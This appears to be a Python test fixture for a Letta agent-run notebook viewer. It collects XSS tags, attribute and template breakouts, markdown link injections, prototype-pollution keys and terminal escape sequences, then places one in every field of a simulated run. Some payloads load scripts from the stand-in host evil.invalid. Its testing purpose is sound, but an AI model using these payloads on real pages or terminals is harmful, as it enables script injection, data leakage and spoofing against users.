"""What an agent, a tool or a server could write to have a page, a notebook or a terminal do something: payloads, and a
run that holds one in every field that any of them can fill."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from letta_nb.entries import Cancel, RunError
from letta_nb.log import Received
from letta_nb.run import Run

# each calls `fired()` or asks for http://evil.invalid/ if it works: a browser test sees the one and the other
TAGS = (
    "<script>fired()</script>",
    '"><script>fired()</script>',
    "</script><script>fired()</script>",
    "</ScRiPt ><script\n>fired()</script\t>",
    "<scr<script>ipt>fired()</scr</script>ipt>",
    "<script src=http://evil.invalid/x.js></script>",
    "<script src=data:text/javascript,fired()></script>",
    "<script type=module>import 'http://evil.invalid/m.js'</script>",
    "<img src=x onerror=fired()>",
    "<IMG SRC=x ONERROR=fired()//",
    "<img src=http://evil.invalid/pixel.png>",
    "<img srcset='http://evil.invalid/a.png 1x, http://evil.invalid/b.png 2x'>",
    "<svg onload=fired()>",
    "<svg/onload=fired()//",
    "<svg><script>fired()</script></svg>",
    "<svg><a xlink:href='javascript:fired()'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=fired()>#x'/></svg>",
    "<svg><animate onbegin=fired() attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=fired()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired()>",
    "<math href='javascript:fired()'>x</math>",
    "<iframe src=http://evil.invalid/></iframe>",
    "<iframe src='javascript:fired()'></iframe>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<object data=http://evil.invalid/x.swf></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=fired()>'>",
    "<body onload=fired()>",
    "<details open ontoggle=fired()>x</details>",
    "<video><source onerror=fired()></video>",
    "<video poster=http://evil.invalid/p.png autoplay onloadstart=fired() src=x></video>",
    "<audio src=x onerror=fired()>",
    "<input autofocus onfocus=fired()>",
    "<select autofocus onfocus=fired()>",
    "<textarea autofocus onfocus=fired()></textarea>",
    "<button popovertarget=x onclick=fired()>x</button><div popover id=x onbeforetoggle=fired()>",
    "<marquee onstart=fired()>x</marquee>",
    "<xss id=x tabindex=1 onfocus=fired()></xss>",
    "<form action=javascript:fired()><input type=submit></form>",
    "<isindex type=image src=1 onerror=fired()>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<link rel=prefetch href=http://evil.invalid/>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<style>@import 'http://evil.invalid/x.css';*{background:url(http://evil.invalid/b.png)}</style>",
    "<div style='background:url(http://evil.invalid/b.png)'>x</div>",
    '<div style="width:expression(fired())">x</div>',
    "<p style='position:fixed;inset:0;z-index:9999'>over everything</p>",
    "<a href=javascript:fired()>x</a>",
    "<a href='jav&#x09;ascript:fired()'>x</a>",
    "<a href=' &#14; javascript:fired()'>x</a>",
    "<a ping=http://evil.invalid/ href=#>x</a>",
    "<table background=http://evil.invalid/t.png><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "<template><script>fired()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=fired()></template>",
    "<plaintext>",
    "<!--",
    "<!--><script>fired()</script>-->",
    "<![CDATA[<script>fired()</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>fired()</script></x>",
)
BREAKS = (
    "' onmouseover='fired()' x='",
    '" onmouseover="fired()" x="',
    "` onmouseover=`fired()`",
    "x onmouseover=fired() ",
    "</pre></code></td></tr></table></details></div><img src=x onerror=fired()>",
    "</summary></details></p></span></strong><svg onload=fired()>",
    "</title></textarea></style></noscript><script>fired()</script>",
    "]]>--></script><img src=x onerror=fired()>",
    '");fired();("',
    "');fired();//",
    '\\");fired();//',
    "${fired()}",
    "`${fired()}`",
    "{{constructor.constructor('fired()')()}}",
    "<%= fired() %>",
    "#{fired()}",
    "__CODE__ __MORE__ __DATA__ __RAW__",
    "{data} %s %(x)s {0} $1 \\1 \\g<0>",
    "\u2028fired()\u2029//",
    "<\u0000script>fired()</script>",
    "\uff1cscript\uff1efired()\uff1c/script\uff1e",
    "+ADw-script+AD4-fired()+ADw-/script+AD4-",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "&#60;script&#62;fired()&#60;/script&#62;",
    "&#x3c;img src=x onerror=fired()&#x3e;",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "\\x3cscript\\x3efired()\\x3c/script\\x3e",
    "%3Cscript%3Efired()%3C/script%3E",
)
MARKDOWN = (
    "[x](javascript:fired())",
    "[x](JaVaScRiPt:fired())",
    "[x](java\tscript:fired())",
    "[x](&#106;avascript:fired())",
    "[x](vbscript:fired())",
    "[x](data:text/html,<script>fired()</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.invalid/x)",
    '[x](http://evil.invalid/ "\\" onmouseover=\\"fired()")',
    "[x][1]\n\n[1]: javascript:fired()",
    "<javascript:fired()>",
    "![x](http://evil.invalid/x.png)",
    "![x](data:image/svg+xml,<svg onload=fired()>)",
    '![x](x" onerror="fired())',
    "[![x](http://evil.invalid/x.png)](javascript:fired())",
    '```js"><img src=x onerror=fired()>\nfired()\n```',
    "```\n</code></pre><script>fired()</script>\n```",
    "`</code><img src=x onerror=fired()>`",
    "| <img src=x onerror=fired()> | b |\n|-|-|\n| <script>fired()</script> | x |",
    "$$\\href{javascript:fired()}{x}$$ \\(\\url{javascript:fired()}\\) $\\includegraphics{http://evil.invalid/x.png}$",
    "# <svg onload=fired()>\n> <img src=x onerror=fired()>\n1. <script>fired()</script>",
    "[^1]\n\n[^1]: <img src=x onerror=fired()>",
    "- [x](javascript:fired()) <details open ontoggle=fired()>",
)
KEYS = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "length", "then", "0", "", "\u0000")
TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1b]0;title\x07 \x1b]8;;http://evil.invalid/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZmlyZWQ=\x07\x1bP$q\x1b\\\x1b[6n\x1b[?1049h",
    "\x9b31m\x9d0;title\x9c\x90",
    "over\rwritten\b\b\b\x7f\x0b\x0c\x0e\x0f\x07",
    "\u202egnp.exe\u202d\u202c",
    "\x00\x01\x02\x03\x04\x05\x06\x1a\x1c\x1d\x1e\x1f",
    "half a pair \ud800 \udfff",
)
PAYLOADS = (*TAGS, *BREAKS, *MARKDOWN, *KEYS, *TERMINAL)

Fill = Callable[[str], str]


def _objects(fill: Fill, field: str) -> str:
    """JSON whose keys are hostile too, one of them a name that JavaScript knows."""
    key, value = fill(f"{field} key"), fill(f"{field} value")
    return _json({key: {"__proto__": value, "constructor": [value]}, "rows": [{key: value}, {key: value}]})


def _json(value: Any) -> str:
    """As a server writes it: in UTF-8, which holds no half of a pair."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "replace").decode("utf-8")


def _events(fill: Fill) -> list[dict[str, Any]]:
    """An event of every type, each text of it filled."""

    def base(message_type: str, **facts: Any) -> dict[str, Any]:
        names = ("id", "date", "name", "otid", "sender_id", "run_id")
        ids = {name: fill(f"{message_type} {name}") for name in names}
        # one step for all, so that the server's row of it is joined
        return {
            "message_type": message_type,
            **ids,
            "step_id": fill("step_id"),
            "seq_id": None,
            "is_err": None,
            **facts,
        }

    def call(field: str, arguments: str) -> dict[str, Any]:
        made = {"name": fill(f"{field} name"), "arguments": arguments, "tool_call_id": fill(field) + field}
        return {"tool_call": made, "tool_calls": [made]}

    def returned(field: str, status: str, result: Any) -> dict[str, Any]:
        out = {"stdout": [fill(f"{field} stdout")], "stderr": [f"{fill(field)}\nTraceback (most recent call last)\n"]}
        made = {"tool_return": result, "status": status, "tool_call_id": fill(field) + field, **out}
        return {**made, "tool_returns": [{"type": "tool", **made}]}

    stats = {"trigger": fill("trigger"), "context_tokens_before": 9, "context_tokens_after": 1, "context_window": 10}
    return [
        base("ping"),
        base("system_message", content=fill("system content")),
        base("user_message", content=[{"type": "text", "text": fill("user content")}, {"type": fill("part type")}]),
        base("reasoning_message", reasoning=fill("reasoning"), source=fill("source"), signature=fill("signature")),
        base("hidden_reasoning_message", state=fill("state"), hidden_reasoning=fill("hidden reasoning")),
        base("tool_call_message", **call("call 1", _objects(fill, "arguments"))),
        base("tool_return_message", **returned("call 1", "success", _objects(fill, "result"))),
        base("tool_call_message", **call("call 2", fill("arguments as text"))),
        base("tool_return_message", **returned("call 2", "error", fill("error of a tool"))),
        base("tool_call_message", **call("call 3", "{}")),
        base("tool_return_message", **returned("call 3", fill("status"), [{"type": "text", "text": fill("part")}])),
        base("assistant_message", content=fill("content")),
        base("assistant_message", content=[{"type": "text", "text": fill("content part")}, {fill("key"): fill("x")}]),
        base("summary_message", summary=fill("summary"), compaction_stats=stats),
        base("event_message", event_type=fill("event_type"), event_data={"trigger": fill("event trigger")}),
        base("event_message", event_type="compaction", event_data={**stats, "context_token_estimate": 9}),
        base(fill("message_type"), **{fill("unknown key"): fill("unknown value")}),
        base("approval_request_message", **call("call 4", _objects(fill, "asked"))),
    ]


ENDS: dict[str, list[dict[str, Any]]] = {
    "completed": [{"message_type": "stop_reason", "stop_reason": "end_turn"}],
    "requires_approval": [{"message_type": "stop_reason", "stop_reason": "requires_approval"}],
    "failed": [],
    "interrupted": [],
    "cancelled": [],
}


def _fetched(fill: Fill) -> dict[str, Any]:
    """What a server tells afterwards."""
    texts = ("provider_name", "provider_category", "model", "status", "stop_reason", "error_type", "error_data", "tid")
    step = {name: fill(f"row {name}") for name in texts}

    def block(when: str) -> dict[str, Any]:
        return {"id": fill("block id"), "label": fill("label"), "limit": 9, "value": fill(when)}

    return {
        "steps": [{**step, "id": fill("step_id"), "prompt_tokens": 9, "completion_tokens": 1, "step_ns": 10**6}],
        "memory": {"before": [block("before")], "after": [block("after")]},
    }


def hostile_run(fill: str | Fill, end: str = "failed") -> Run:
    """A run that ended so, with a payload in every field; `fill` gives it by the field's name."""
    give: Fill = fill if callable(fill) else lambda field: fill
    body = {
        "messages": [
            {"role": "user", "content": give("prompt"), "name": give("sender"), "otid": give("otid")},
            {"role": "system", "content": [{"type": "text", "text": give("system prompt")}]},
        ],
        give("parameter"): give("value of a parameter"),
    }
    names = ("agent_id", "agent_name", "model", "server", "conversation_id")
    run = Run(body, **{name: give(f"run {name}") for name in names})
    told = [*_events(give), *ENDS[end]]
    if end != "requires_approval":
        answer = {"type": "approval", "tool_call_id": give("call 4") + "call 4", "approve": False}
        told.insert(
            -1, {"message_type": "approval_response_message", "approvals": [{**answer, "reason": give("reason")}]}
        )
    if end == "failed":
        said = {name: give(f"error {name}") for name in ("run_id", "error_type", "message", "detail")}
        told += [{"message_type": "stop_reason", "stop_reason": give("stop_reason")}]
        told += [{"message_type": "error_message", **said}]
    for number, event in enumerate(told):
        run.receive(Received(number * 1_000_000, "", _json(event)))
    run.receive(Received(len(told) * 1_000_000, give("event name"), give("no JSON")))
    run.note = give("note")
    if end == "cancelled":
        run.cancel_told(Cancel(asked_at=1, outcome="refused", words=give("words")), 1)
    run.lose(40_000_000)
    error = RunError(give("type"), give("message"), give("detail")) if end == "interrupted" else None
    run.end(50_000_000, error, cancelled=end == "cancelled")
    run.join_server(_fetched(give), 50_000_000)
    return run
